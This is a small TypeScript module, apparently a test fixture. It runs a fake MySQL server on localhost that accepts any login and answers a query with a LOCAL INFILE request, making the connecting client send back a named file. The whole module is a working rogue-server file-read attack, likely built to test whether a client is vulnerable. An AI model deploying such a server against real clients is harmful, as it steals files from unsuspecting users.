/** A server that speaks enough of MySQL's protocol to be logged in to, and then asks for a file of its client. */
import { createServer, type Socket } from 'node:net';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { OK, greeting, packet } from './mysql-packets';

/** Listens on a free port; `received` has all that clients sent after they logged in. */
export const startRogue = async (file: string) => {
  const received: Buffer[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.write(packet(0, greeting('mysql_native_password')));
    socket.once('data', () => {
      socket.write(packet(2, OK));
      socket.on('data', (chunk: Buffer) => {
        received.push(chunk);
        if (chunk[3] === 0) socket.write(packet(1, Buffer.concat([Buffer.from([0xfb]), Buffer.from(file)])));
        else socket.write(packet(3, OK));
      });
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return {
    port,
    received: () => Buffer.concat(received).toString(),
    close: () => {
      for (const socket of sockets) socket.destroy();
      server.close();
    },
  };
};
